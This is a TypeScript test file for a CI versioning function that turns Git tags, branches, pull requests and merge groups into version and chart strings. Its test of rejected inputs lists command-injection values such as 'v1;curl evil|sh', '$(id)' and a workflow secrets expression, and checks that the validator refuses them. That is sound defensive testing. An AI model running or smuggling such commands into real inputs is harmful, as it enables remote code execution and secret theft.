import { describe, expect, test } from "vitest";
import type { BuildSubject } from "../../src/build/subject.ts";
import { versionOf, type VersionFacts, type VersionRequest } from "../../src/build/version.ts";

const COMMIT = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d";
const DATE = new Date("2026-11-21T09:44:00Z");

const branch = (name: string): BuildSubject => ({ kind: "branch", branch: name, commit: COMMIT });
const tag = (name: string): BuildSubject => ({ kind: "tag", tag: name, commit: COMMIT });

function facts(subject: BuildSubject, more: Partial<VersionFacts> = {}): VersionFacts {
  return { subject, committedAt: DATE, tags: [], nearest: null, ...more };
}

function request(more: Partial<VersionRequest> = {}): VersionRequest {
  return { version: null, pattern: "date", tagPrefix: "", allPrefixes: [], shortTags: false, latest: false, ...more };
}

interface Row {
  readonly what: string;
  readonly facts: VersionFacts;
  readonly request?: Partial<VersionRequest>;
  readonly version: string;
  readonly tag?: string;
  readonly moving?: readonly string[];
  readonly chart?: string;
  readonly releasable?: boolean;
}

const ALL = ["v1.2.2", "v1.2.3", "v1.1.9", "v2.0.0-rc.1", "nightly"];
const followed = { shortTags: true, latest: true };
const UNVERSIONED_CHART = "0.0.0-20261121094400.g1a2b3c4d5e6f";

const ROWS: readonly Row[] = [
  { what: "a release", facts: facts(tag("v1.2.3")), version: "1.2.3" },
  { what: "a release without v", facts: facts(tag("1.2.3")), version: "1.2.3" },
  {
    what: "the highest release, where short tags and latest are asked for",
    facts: facts(tag("v1.2.3"), { tags: ALL }),
    request: followed,
    version: "1.2.3",
    moving: ["1.2", "1", "latest"],
  },
  {
    what: "a release that newer ones stand beside",
    facts: facts(tag("v1.1.9"), { tags: ALL }),
    request: followed,
    version: "1.1.9",
    moving: ["1.1"],
  },
  {
    what: "a patch of an older minor",
    facts: facts(tag("v1.2.2"), { tags: ALL }),
    request: followed,
    version: "1.2.2",
    moving: [],
  },
  {
    what: "a release before 1.0",
    facts: facts(tag("v0.9.0"), { tags: ["v0.10.0", "v0.9.0"] }),
    request: followed,
    version: "0.9.0",
    moving: ["0.9"],
  },
  {
    what: "a pre-release",
    facts: facts(tag("v2.0.0-rc.1"), { tags: ALL }),
    request: followed,
    version: "2.0.0-rc.1",
    moving: [],
  },
  { what: "build metadata", facts: facts(tag("v1.2.3+7")), version: "1.2.3+7", tag: "1.2.3_7", chart: "1.2.3+7" },
  {
    what: "a release of one app of several",
    facts: facts(tag("app/v1.2.3"), { tags: ["app/v1.2.3", "other/v9.0.0"] }),
    request: { ...followed, tagPrefix: "app/" },
    version: "1.2.3",
    moving: ["1.2", "1", "latest"],
  },
  {
    what: "a tag that is no version",
    facts: facts(tag("Nightly/2026 x")),
    version: "Nightly/2026 x",
    tag: "Nightly-2026-x",
    chart: UNVERSIONED_CHART,
  },
  { what: "a branch", facts: facts(branch("main")), version: "20261121.094400_1a2b3c4d5e6f", chart: UNVERSIONED_CHART },
  {
    what: "a branch as a pre-release",
    facts: facts(branch("main"), { nearest: { tag: "v1.2.3", commits: 4 } }),
    request: { pattern: "semver" },
    version: "1.2.4-main.20261121094400.4.g1a2b3c4d5e6f",
  },
  {
    what: "a branch as a pre-release after a pre-release",
    facts: facts(branch("feature/ABC-1"), { nearest: { tag: "v1.3.0-rc.1", commits: 4 } }),
    request: { pattern: "semver" },
    version: "1.3.0-rc.1.feature-ABC-1.20261121094400.4.g1a2b3c4d5e6f",
  },
  {
    what: "a branch as a pre-release where nothing was released",
    facts: facts(branch("007"), { nearest: { tag: null, commits: 7 } }),
    request: { pattern: "semver" },
    version: "0.0.0-b007.20261121094400.7.g1a2b3c4d5e6f",
  },
  {
    what: "a branch whose name a chart cannot have, as a pre-release",
    facts: facts(branch("Ünïcode/§!"), { nearest: { tag: "v1.2.3", commits: 0 } }),
    request: { pattern: "semver" },
    version: "1.2.4-n-code.20261121094400.0.g1a2b3c4d5e6f",
  },
  {
    what: "a release that the forge calls a pre-release",
    facts: facts({ kind: "tag", tag: "v3.0.0", commit: COMMIT, isPrerelease: true }, { tags: ALL }),
    request: followed,
    version: "3.0.0",
    moving: [],
  },
  {
    what: "a release whose short tags were not asked for",
    facts: facts(tag("v3.0.0"), { tags: ALL }),
    request: { latest: true },
    version: "3.0.0",
    moving: ["latest"],
  },
  {
    what: "a release that asks for short tags alone",
    facts: facts(tag("v3.0.0"), { tags: ALL }),
    request: { shortTags: true },
    version: "3.0.0",
    moving: ["3.0", "3"],
  },
  {
    what: "a release of an app that stands before its version without a slash",
    facts: facts(tag("app-v1.2.3"), { tags: ["app-v1.2.3", "v9.0.0"] }),
    request: { ...followed, tagPrefix: "app-" },
    version: "1.2.3",
    moving: ["1.2", "1", "latest"],
  },
  {
    what: "a Git tag of more than 128 characters",
    facts: facts(tag("x".repeat(200))),
    version: "x".repeat(200),
    tag: "x".repeat(128),
    chart: UNVERSIONED_CHART,
  },
  {
    what: "a merge queue's group to which the call gives a version",
    facts: facts({ kind: "merge-group", commit: COMMIT }),
    request: { version: "7.0.0" },
    version: "7.0.0",
    releasable: false,
  },
  {
    what: "a branch as git describes it",
    facts: facts(branch("main"), { nearest: { tag: "app/v1.2.3", commits: 4 } }),
    request: { pattern: "describe", tagPrefix: "app/" },
    version: "1.2.3-4-g1a2b3c4d5e6f",
  },
  {
    what: "a branch whose head is a release, as git describes it",
    facts: facts(branch("main"), { nearest: { tag: "v1.2.3", commits: 0 } }),
    request: { pattern: "describe" },
    version: "1.2.3",
  },
  {
    what: "a branch whose head is the highest release, as git describes it, with the tags that the release moves",
    facts: facts(branch("main"), { nearest: { tag: "v1.2.3", commits: 0 }, tags: ALL }),
    request: { ...followed, pattern: "describe" },
    version: "1.2.3",
    moving: ["1.2", "1", "latest"],
  },
  {
    what: "a branch after the highest release, as git describes it",
    facts: facts(branch("main"), { nearest: { tag: "v1.2.3", commits: 4 }, tags: ALL }),
    request: { ...followed, pattern: "describe" },
    version: "1.2.3-4-g1a2b3c4d5e6f",
    moving: [],
  },
  {
    what: "a branch by its commit",
    facts: facts(branch("main")),
    request: { pattern: "commit" },
    version: COMMIT,
    chart: UNVERSIONED_CHART,
  },
  {
    what: "a pull request",
    facts: facts({ kind: "pull-request", number: 12, commit: COMMIT, merge: null }),
    version: "pr-12-1a2b3c4d5e6f",
    chart: UNVERSIONED_CHART,
    releasable: false,
  },
  {
    what: "a pull request whose number the event does not say",
    facts: facts({ kind: "pull-request", number: null, commit: COMMIT, merge: null }),
    version: "pr-1a2b3c4d5e6f",
    chart: UNVERSIONED_CHART,
    releasable: false,
  },
  {
    what: "a merge queue's group",
    facts: facts({ kind: "merge-group", commit: COMMIT }),
    version: "queue-1a2b3c4d5e6f",
    chart: UNVERSIONED_CHART,
    releasable: false,
  },
  {
    what: "a version that the call gives",
    facts: facts(branch("main")),
    request: { version: "7.0.0" },
    version: "7.0.0",
  },
  {
    what: "a release that the call gives, with the tags that follow it",
    facts: facts(branch("main"), { tags: ALL }),
    request: { ...followed, version: "1.3.0" },
    version: "1.3.0",
    moving: ["1.3", "1", "latest"],
  },
  {
    what: "a release that the call gives as its Git tag is written",
    facts: facts(tag("v1.2.3"), { tags: ALL }),
    request: { ...followed, version: "v1.2.3" },
    version: "v1.2.3",
    moving: ["1.2", "1", "latest"],
  },
  {
    what: "a release that the call gives and newer ones stand beside",
    facts: facts(branch("1.1"), { tags: ALL }),
    request: { ...followed, version: "1.1.10" },
    version: "1.1.10",
    moving: ["1.1"],
  },
  {
    what: "a pre-release that the call gives",
    facts: facts(branch("main"), { tags: ALL }),
    request: { ...followed, version: "2.0.0-rc.2" },
    version: "2.0.0-rc.2",
    moving: [],
  },
  {
    what: "a release that one with build metadata stands above",
    facts: facts(tag("v1.2.3"), { tags: ["v1.2.3", "v1.2.4+7"] }),
    request: followed,
    version: "1.2.3",
    moving: [],
  },
  {
    what: "a release that the call gives to a pull request",
    facts: facts({ kind: "pull-request", number: 1, commit: COMMIT, merge: null }, { tags: ALL }),
    request: { ...followed, version: "7.0.0" },
    version: "7.0.0",
    moving: [],
    releasable: false,
  },
  {
    what: "a version that the call gives to a pull request",
    facts: facts({ kind: "pull-request", number: 1, commit: COMMIT, merge: null }),
    request: { version: "7.0.0" },
    version: "7.0.0",
    releasable: false,
  },
];

test.each(ROWS)("$what is called $version", (row) => {
  const result = versionOf(row.facts, request(row.request));
  expect(result).toMatchObject({
    version: row.version,
    tag: row.tag ?? row.version,
    movingTags: row.moving ?? [],
    chartVersion: row.chart ?? row.version,
    isReleasable: row.releasable ?? true,
  });
});

test("the Git tag of another app of the repository is not this one's", () => {
  expect(versionOf(facts(tag("other/v1.2.3")), request({ tagPrefix: "app/" }))).toBeNull();
});

test.each([
  { git: "web/v1.2.3", of: "web/" },
  { git: "web/admin/v1.2.3", of: "web/admin/" },
  { git: "v1.2.3", of: "" },
  { git: "worker/v1.2.3", of: "" },
])("the Git tag $git is that of the app whose prefix fits it best, $of", ({ git, of }) => {
  const prefixes = ["", "web/", "web/admin/"];
  const takers = prefixes.filter(
    (tagPrefix) => versionOf(facts(tag(git)), request({ tagPrefix, allPrefixes: prefixes })) !== null,
  );
  expect(takers).toEqual([of]);
});

test.each(["semver", "describe"] as const)(
  "a Git tag so long that the commit would be cut off `%s` is refused",
  (pattern) => {
    const nearest = { tag: `v1.2.3-${"a".repeat(115)}`, commits: 4 };
    expect(() => versionOf(facts(branch("main"), { nearest }), request({ pattern }))).toThrow(
      /has 1\d\d characters, and a tag holds 128; shorten the Git tag that it begins with, or choose another `pattern`/,
    );
  },
);

test("git describe without a tag says what to change", () => {
  expect(() => versionOf(facts(branch("main")), request({ pattern: "describe", tagPrefix: "app/" }))).toThrow(
    /no Git tag that starts with "app\/" is reachable.*fetch-depth: 0/,
  );
});

describe("a version that no tag can hold is rejected", () => {
  test.each([
    "v1;curl evil|sh",
    "`id`",
    "a/b",
    "ä",
    "v1:2",
    "v1@2",

    "$(id)",
    "${{ secrets.X }}",
    "a".repeat(129),
    ".1",
    "-1",
    "1 2",
    "",
    "1\n2",
  ])("%j", (version) => {
    expect(() => versionOf(facts(branch("main")), request({ version }))).toThrow(/the input `version` is/);
  });
});

test("later commits of a branch sort behind earlier ones, by name and by Waybill's own order", () => {
  const dates = ["2026-01-09T23:59:59Z", "2026-01-10T00:00:00Z", "2026-11-02T10:00:00Z"];
  const names = dates.map(
    (date) => versionOf(facts(branch("main"), { committedAt: new Date(date) }), request())?.version ?? "",
  );
  expect(names.toSorted()).toEqual(names);
});
